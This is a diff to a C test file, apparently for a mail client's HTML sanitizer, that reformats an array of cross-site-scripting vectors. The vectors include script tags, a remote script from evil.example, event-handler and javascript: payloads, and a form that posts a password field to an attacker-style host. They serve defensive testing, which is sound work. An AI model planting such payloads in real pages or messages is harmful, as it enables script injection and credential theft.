@@ -17,6 +17,7 @@
 #include "mail/utf.h"
 
 // Nothing of these may do more than show text: no element, attribute, address or style beyond the list.
+// clang-format off: one row is one vector
 static const char *const hostile[] = {
     "<script>alert(1)</script>",
     "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
@@ -51,8 +52,7 @@ static const char *const hostile[] = {
     "<a href=\"/c/token\">x</a>",
     "<a href=\"blob:https://x/y\">x</a>",
     "<a href=\"https://ok.example\" ping=\"https://evil.example\" onclick=alert(1)>x</a>",
-    "<form action=https://evil.example><input name=p type=password><button "
-    "formaction=javascript:alert(1)>go</button></form>",
+    "<form action=https://evil.example><input name=p type=password><button formaction=javascript:alert(1)>go</button></form>",
     "<input type=image src=x onerror=alert(1)>",
     "<button onclick=alert(1)>x</button>",
     "<isindex action=javascript:alert(1) type=image>",
@@ -158,6 +158,7 @@ static const char *const hostile[] = {
     "<a href=\"https://user:pass@evil.example:99999/%00%0d%0a\">x</a>",
     "\xEF\xBB\xBF<script>alert(1)</script>",
 };
+// clang-format on
 
 struct row {
 	const char *in, *want;
